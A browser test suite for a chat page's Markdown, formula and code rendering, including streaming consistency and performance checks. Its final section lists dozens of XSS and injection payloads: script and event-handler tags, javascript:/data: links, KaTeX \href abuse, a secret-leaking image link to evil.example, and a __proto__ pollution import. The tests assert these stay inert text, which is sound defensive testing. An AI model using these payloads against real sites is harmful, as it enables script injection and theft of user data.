"""What the page makes of an answer's text, in a real browser: Markdown, formulas, code; growing is the same as whole, and
costs the same however long; nothing of it is run or loaded."""

import json
import random
from collections.abc import Iterator
from typing import Any

import pytest

from support.chat_page import Page, Scripted, has_browser, opened_browser, scripted

pytestmark = pytest.mark.skipif(
    not has_browser(), reason="the page is tested in a browser: install chromium and chromium-driver"
)


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    with opened_browser() as made:
        yield made


@pytest.fixture(scope="module")
def served() -> Iterator[Scripted]:
    with scripted() as made:
        yield made


@pytest.fixture
def server(page: Page, served: Scripted) -> Scripted:
    served.model["model"] = "model"
    page.open(served.url)
    return served


RENDER = """
const [sources, done] = [arguments[0], arguments[arguments.length - 1]];
import('/page/markdown.js').then(async ({ render }) => {
  const whole = source => { const made = document.createElement('div'); made.append(render(source)); return made; };
  document.body.append(whole('$x$\\n\\n```python\\n1\\n```'));
  while (!document.querySelector('body > div > p .katex, body > div .hljs-number')) await new Promise(r => setTimeout(r, 10));
  await Promise.all([import('/page/vendored/katex-0.19.1/katex.min.js'), import('/page/vendored/highlight-11.12.0/highlight.min.js')]);
  await new Promise(r => setTimeout(r, 50));
  document.body.lastElementChild.remove();
"""


def rendered(page: Page, *sources: str) -> list[str]:
    """The HTML of each."""
    found = page.browser.execute_async_script(RENDER + "done(sources.map(s => whole(s).innerHTML)); }, e => done(e.message))", sources)
    assert isinstance(found, list), found
    return found


def test_markdown(page: Page, server: Scripted) -> None:
    cases = {
        "# One\n\n###### Six": "<h3>One</h3>\n<h6>Six</h6>",
        "a\nb  \nc": "<p>a<br>\nb<br>\nc</p>",
        "**b** *i* ~~s~~ `c<d`": "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c&lt;d</code></p>",
        "3. x\n4. y": '<ol start="3">\n<li>x</li>\n<li>y</li>\n</ol>',
        "[t](https://a.example/?q=1&r)": '<p><a href="https://a.example/?q=1&amp;r" target="_blank" rel="noopener noreferrer nofollow">t</a></p>',
        "see https://a.example.": '<p>see <a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">https://a.example</a>.</p>',
        "![cat](https://a.example/cat.png)": '<p><a href="https://a.example/cat.png" target="_blank" rel="noopener noreferrer nofollow">cat</a></p>',
        "[t](javascript:alert)": "<p>[t](javascript:alert)</p>",
        "[t](/v1/models)": "<p>[t](/v1/models)</p>",
        "<b>no</b>": "<p>&lt;b&gt;no&lt;/b&gt;</p>",
        "- [x] done": "<ul>\n<li>[x] done</li>\n</ul>",
        "It costs $5, or $6 and $ 7 $.": "<p>It costs $5, or $6 and $ 7 $.</p>",
        "`$x$` and \\$x$": "<p><code>$x$</code> and $x$</p>",
    }
    assert dict(zip(cases, rendered(page, *cases), strict=True)) == cases
    [table] = rendered(page, "| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert table.startswith('<div class="table" tabindex="0" role="region" aria-label="Table"><table>')
    assert '<th class="center">a</th>\n<th class="right">b</th>' in table and "style" not in table

    formulas = {"$x^2$": False, "\\(a_1\\)": False, "$$\nx\n$$": True, "\\[\\frac{1}{2}\\]": True, "so $$x$$ it is": True, "text\n\\[\nx\n\\]": True,
                "- $x$\n\n  $$y$$": True, "$\\vec{v} \\ne \\left(\\begin{matrix}a\\\\b\\\\c\\\\d\\\\e\\end{matrix}\\right)$": False}  # fmt: skip
    for (source, is_display), html in zip(formulas.items(), rendered(page, *formulas), strict=True):
        assert 'class="katex"' in html and "<math" in html and ("katex-display" in html) == is_display, source
        assert "\\(" not in html and "$$" not in html
    wrong, unclosed = rendered(page, "$\\frac{1$", "$$\nx\n\ny")
    assert '<code class="tex wrong" title="KaTeX parse error' in wrong and ">\\frac{1</code>" in wrong
    assert unclosed == "<p>$$<br>\nx</p>\n<p>y</p>"
    [trusting] = rendered(page, "$\\href{https://a.example}{x} \\includegraphics{https://a.example/x.png} \\url{x} \\htmlStyle{color:red}{x}$")
    assert "<a " not in trusting and "<img" not in trusting and "color:red" not in trusting.split("</annotation>")[-1]

    plain, code = rendered(page, "```\na\n\n<b>\n```", "~~~python\nif x:\n\treturn 1\n~~~")
    assert '<pre tabindex="0"><code>a\n\n&lt;b&gt;</code></pre>' in plain and "hljs" not in plain
    assert '<span class="language">python</span>' in code and '<span class="hljs-keyword">if</span> x:\n' in code
    assert not page.complaints


BLOCKS = [
    "A paragraph of *some* words.", "Two lines\nof text", "# Heading", "Setext\n---", "---", "- a\n- b", "- a\n\n- b\n\n  more", "* other\n* list",
    "1. one\n2. two\n   - nested\n   - list", "3) three", "text:\n- a\n- b", "```python\nx = [1, 2]\n\ny = 3\n```", "~~~\n```\n~~~", "````\n```\n````",
    "- item\n\n  ```js\n  let a\n\n  let b\n  ```\n\n- next", "- item\n  ```\n  never closed", "  ```\n  indented\n  ```", "    indented\n\n    code",
    "> quote\n> more\n\n> another", "> ```\n> quoted\n> ```", "> lazy\ncontinued", "| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |",
    "$$\nx = 1\n\n+ 2\n$$", "\\[\na\n\\]", "$$ one $$", "$$\nunclosed", "inline $x$ and `$y$`", "[ref]: https://a.example", "see [ref] there",
    "*em\nover lines*", "**unclosed", "&amp; &lt; \\* \\_", "\ttab", "", "1.", "-", "#", "```", "word " * 30, "日本語の文章。" * 5, "```sh", "text\n# heading\ntext",
    "- [a](b)\n+ plus", "a\n\n\n\nb", "\\$5 and \\(x\\)", "line one\n\n$$\nz\n$$\ntail", "$$ x $$ tail\n\nmore", "#no heading",
]  # fmt: skip

GROW = """
  const { GrowingText, LONG } = await import('/page/growing.js');
  const flat = root => { for (const node of [...root.childNodes]) if (node.nodeType === 3 && !node.data.trim()) node.remove(); return root.innerHTML; };
  const wrong = [];
  for (const [source, sizes] of sources) {
    const root = document.createElement('div'), growing = new GrowingText(root), joined = document.createElement('div');
    for (let at = 0, i = 0; at < source.length; i++) {
      const size = sizes[i % sizes.length];
      growing.push(source.slice(at, at + size));
      at += size;
      growing.paint();
    }
    growing.finish();
    for (const piece of root.children) joined.append(...piece.childNodes);
    if (flat(joined) !== flat(whole(source))) wrong.push([source, joined.innerHTML, flat(whole(source))]);
  }
  done(wrong);
}).catch(e => done(e.stack));
"""


def grown_wrong(page: Page, cases: list[tuple[str, list[int]]]) -> Any:
    page.browser.set_script_timeout(120)
    return page.browser.execute_async_script(RENDER + GROW, cases)


@pytest.mark.parametrize("count", [80, pytest.param(4000, marks=pytest.mark.trust)])
def test_growing_is_the_same_as_whole(page: Page, server: Scripted, count: int) -> None:
    """Documents of random blocks, in random pieces: at the end the page shows what one rendering of the whole shows."""
    rng = random.Random(5)
    cases = [("see [a] there\n# h\n[a]: https://a.example", [3]), ("- 2\n$$\n\n$$\nx\n```sh\n\ny\n\n$$\nz\n$$\ntail\n", [5])]  # ends and lists
    for _ in range(count):
        blocks = rng.choices(BLOCKS, k=rng.randint(1, 12))
        source = "".join(block + rng.choice(["\n\n", "\n\n", "\n"]) for block in blocks)
        cases.append((source[: len(source) - rng.randint(0, 2)], rng.choices([1, 2, 5, 9, 40, 90], k=5)))
    assert grown_wrong(page, cases) == []


def test_long_blocks_grow_to_the_same(page: Page, server: Scripted) -> None:
    """Longer than what is rendered again each frame."""
    row, item = "| 12345 | some words of a cell | **bold** |\n", "- an item with *some* words in it\n"
    long = {
        "list": item * 300, "loose list": item.replace("\n", "\n\n") * 300, "nested": (item + "  " + item) * 150,
        "table": "| a | b | c |\n|--|:-:|--:|\n" + row * 300 + "\ntext after", "one line": "word " * 3000, "lines": "a line of text\n" * 600,
        "no space": "x" * 7000, "code in a list": "- code:\n\n  ```py\n" + "  x = 1\n\n" * 600 + "  ```\n\n- next\n",
        "quote": "> a line\n" * 800, "formula": "$$\n" + "x + \n" * 60 + "y\n$$\n\n# after\n", "code": "```py\nx = 1  # one\n" * 1 + "y = 2\n\n" * 500 + "```\nafter",
        "emphasis": "**bold " + "word " * 1500 + "bold**", "definitions": "[a][b] " * 600 + "\n\n[b]: https://a.example\n",
    }  # fmt: skip
    cases = [(source, [401]) for source in long.values()]
    wrong = grown_wrong(page, cases)
    assert isinstance(wrong, list), wrong
    assert [name for name, source in long.items() if source in [case[0] for case in wrong]] == []


PARAGRAPHS = "Some words of *a paragraph* with `code` and more of them, and so on.\n\n" * 6
KINDS = {
    "prose": PARAGRAPHS + "## Heading\n\n- a\n- b\n\n$$x$$\n\n", "list": "- an item of a list that goes on\n", "table": "| a cell | another |\n",
    "code": "    x = f(1)  # a comment\n", "line": "word ",
}  # fmt: skip
BEGIN = {"table": "| a | b |\n|---|---|\n", "code": "```python\n"}


def test_the_cost_of_a_token_does_not_grow(page: Page, server: Scripted) -> None:
    """Counted in the elements and text nodes that a token's frame adds to the page; the last is beyond 16,000 tokens."""
    counted = page.browser.execute_async_script(
        RENDER + """
        const { GrowingText } = await import('/page/growing.js'), found = {};
        for (const [name, begin, unit] of sources) {
          const root = document.createElement('div'), growing = new GrowingText(root);
          document.body.append(root);
          let changed = 0, most = 0;
          const observer = new MutationObserver(() => 0);
          observer.observe(root, { subtree: true, childList: true, characterData: true });
          const size = node => 1 + [...node.childNodes].reduce((sum, child) => sum + size(child), 0);
          const count = () => observer.takeRecords().reduce((sum, { addedNodes }) => sum + 1 + [...addedNodes].reduce((s, n) => s + size(n), 0), 0);
          growing.push(begin);
          found[name] = [];
          for (let [tokens, at] = [0, 0]; tokens < 16000; tokens += 1, at += 4) {
            const text = (unit + unit).substr(at % unit.length, 4);
            growing.push(text);
            if (tokens % 4000 < 3600 || tokens % 20 !== 19) continue;
            if (tokens % 4000 === 3619) { growing.paint(); observer.takeRecords(); continue; }
            growing.paint();
            most = Math.max(most, count());
            if (tokens % 4000 === 3999) { found[name].push(most); most = 0; }
          }
          root.remove();
        }
        done(found);
      }).catch(e => done(e.stack));""",
        [(name, BEGIN.get(name, ""), unit) for name, unit in KINDS.items()],
    )
    assert isinstance(counted, dict), counted
    for name, most in counted.items():
        assert len(most) == 4 and max(most) < 1.3 * most[0] + 20 and max(most) < 1500, (name, most)


def test_one_update_a_frame(page: Page, server: Scripted) -> None:
    """However many tokens came."""
    page.ask("q")
    server.next_question()
    server.say(content="begin ")
    page.until(lambda: page.text(".said") == "begin", "it has begun")
    page.run("""window.updates = 0;
        new MutationObserver(() => { updates += 1; }).observe(document.querySelector('.said'), { subtree: true, childList: true });""")
    server.send(*({"choices": [{"delta": {"content": f"word{i} "}}]} for i in range(400)))
    page.until(lambda: "word399" in page.text(".said"), "all words")
    assert 1 <= page.run("return updates") < 40
    server.end()
    page.idle()


# --- hostile text ----------------------------------------------------------------------------------------------------

HOSTILE = """
<script>hacked=1</script>
</script><script>hacked=1</script>
<img src=x onerror="hacked=1">
<svg onload=hacked=1><animate onbegin=hacked=1 attributeName=x dur=1s>
<svg><style><img src=x onerror=hacked=1></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hacked=1&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=hacked=1></annotation-xml></math>
<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>
<a href="javascript:hacked=1">x</a>
<form action=javascript:hacked=1><input autofocus onfocus=hacked=1>
<details open ontoggle=hacked=1>
<noscript><p title="</noscript><img src=x onerror=hacked=1>">
<template><img src=x onerror=hacked=1></template>
<link rel=stylesheet href=data:text/css,*{color:red}><base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>
[x](javascript:hacked=1)
[x](JaVaScRiPt:hacked=1) [x](java&#115;cript:hacked=1) [x](java&Tab;script:hacked=1)
[x](data:text/html,<script>hacked=1</script>)
[x](vbscript:hacked=1) [x](file:///etc/passwd) [x](//evil.example) [x](blob:x)
[x](https://a.example/"onmouseover="hacked=1)
[x](https://a.example 'x" onmouseover="hacked=1')
<javascript:hacked=1>
![x](x" onerror="hacked=1)
![x](javascript:hacked=1) ![x](data:image/svg+xml,<svg/onload=hacked=1>) ![leak](https://evil.example/?secret)
[a]: javascript:hacked=1
$\\href{javascript:hacked=1}{x}$ $\\url{javascript:hacked=1}$
$\\htmlId{send}{x} \\htmlClass{round}{x} \\htmlData{x=y}{x} \\includegraphics{https://evil.example/x.png}$
$\\text{<img src=x onerror=hacked=1>}$ $\\unicode{x3c}$ $x</annotation><img src=x onerror=hacked=1>$
$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$
$$\\begin{matrix}<script>hacked=1</script>\\end{matrix}$$
`</code><script>hacked=1</script>`
| <img src=x onerror=hacked=1> | [x](javascript:hacked=1) |
""".strip().splitlines()
FENCES = [
    '```"><img/src=x/onerror=hacked=1>\ncode\n```', "```javascript\n</code></pre><script>hacked=1</script>\n```", "```__proto__\nx\n```", "```constructor\nx\n```",
    "```html\n<img src=x onerror=hacked=1>\n```", "| a |\n|---|\n| <img src=x onerror=hacked=1> |",
]
CHECK = """
const found = [], fine = new Set('P BR HR STRONG EM S A CODE PRE UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD H3 H4 H5 H6 DIV SPAN BUTTON'.split(' '));
for (const e of document.querySelectorAll('.prose *')) {
  const inFormula = e.closest('.katex'), inButton = e.closest('button');
  if (!inFormula && !inButton && !fine.has(e.tagName)) found.push(e.tagName);
  if (inFormula && /^(script|iframe|img|image|a|style|foreignobject|annotation-xml|link|form|input)$/i.test(e.tagName)) found.push(e.tagName);
  for (const { name, value } of e.attributes) {
    if (/^on/i.test(name) || ['src', 'srcdoc', 'action', 'formaction', 'id', 'xlink:href', 'srcset'].includes(name)) found.push(e.tagName + ' ' + name);
    if (name === 'href' && !/^(https?:|mailto:|#i-)/.test(value)) found.push(value);
  }
}
for (const e of document.querySelectorAll('script')) if (!e.src.startsWith(location.origin + '/page/')) found.push('script');
const elsewhere = performance.getEntriesByType('resource').map(r => r.name).filter(n => !n.startsWith(location.origin));
return [typeof hacked, found, elsewhere, document.querySelectorAll('.prose').length];
"""


def test_hostile_answers_are_only_text(page: Page, server: Scripted) -> None:
    texts = [*HOSTILE, *FENCES]
    for content in ["\n\n".join(texts), "\n".join(texts), "> " + "\n> ".join(HOSTILE)]:
        server.say(reasoning_content=content, drafted=[[content[:99], True], [content[99:], False]])
        for at in range(0, len(content), 61):
            server.say(content=content[at : at + 61])
        server.say(tool_calls=[{"index": 0, "id": HOSTILE[0], "function": {"name": HOSTILE[2], "arguments": HOSTILE[3]}}])
        server.end()
        page.ask(HOSTILE[2])
        server.next_question()
        page.idle()
        page.press("summary")
        page.press("[title='Show drafted tokens']")
        page.press("[title='Show drafted tokens']")
        kind, found, elsewhere, n = page.run(CHECK)
        assert (kind, found, elsewhere) == ("undefined", [], []) and n >= 2
        page.press("#fresh-too")
    assert not [said for said in page.complaints if "katex" not in said], "nothing that the policy had to forbid"


def test_hostile_names_errors_and_imports_are_only_text(page: Page, served: Scripted, tmp_path: Any) -> None:
    served.model |= {"model": HOSTILE[2], "examples": [HOSTILE[2], HOSTILE[0]]}
    page.open(served.url)
    page.until(lambda: page.text("#model") == HOSTILE[2], "the model's name")
    assert page.texts("#examples button") == [HOSTILE[2], HOSTILE[0]]
    served.say(content="x")
    served.send({"error": {"message": HOSTILE[2]}})
    served.said.put(None)
    page.ask(HOSTILE[2])
    served.next_question()
    page.until(lambda: page.text("#notice-text") == HOSTILE[2] + ".", "the error")
    message = {"id": '"><img src=x onerror=hacked=1>', "parent": None, "role": "user", "content": HOSTILE[1]}
    answer = {"id": "__proto__", "parent": message["id"], "role": "assistant", "content": "\n\n".join(HOSTILE), "reasoning": HOSTILE[2], "ending": HOSTILE[2],
              "calls": [{"id": "1", "name": HOSTILE[2], "arguments": HOSTILE[3]}], "marks": {"content": [-5, "x", 10**9], "reasoning": {}}, "rate": HOSTILE[2]}  # fmt: skip
    conversation = {"id": "__proto__", "title": HOSTILE[2], "messages": [message, answer], "leaf": "constructor", "settings": {"system": HOSTILE[2], "tools": "{"}}
    polluting = '{"__proto__": {"hacked": 1}, "messages": []}'
    exported = {"format": "chat-conversations", "version": 1, "conversations": [conversation]}
    text = json.dumps(exported)[:-2] + f", {polluting}]}}"
    (tmp_path / "hostile.json").write_text(text)
    page.all("#import-file")[0].send_keys(str(tmp_path / "hostile.json"))
    page.until(lambda: page.text("#notice-text").startswith("2 conversations"), "they are imported")
    page.press("#open-side")
    assert HOSTILE[2] in page.texts("#list .title")
    next(e for e in page.all("#list .title") if e.get_attribute("title") == HOSTILE[2]).click()
    page.until(lambda: page.texts(".bubble") == [HOSTILE[1]], "it is shown")
    assert page.texts(".call h3") == [HOSTILE[2]] and page.text(".ending") == HOSTILE[2]
    page.press("summary")
    page.press("[title='Show drafted tokens']")
    assert page.run(CHECK)[:3] == ["undefined", [], []] and page.run("return [{}.hacked, document.querySelectorAll('img').length]") == [None, 0]
    page.press("#open-settings")
    assert page.all("#system")[0].get_property("value") == HOSTILE[2]
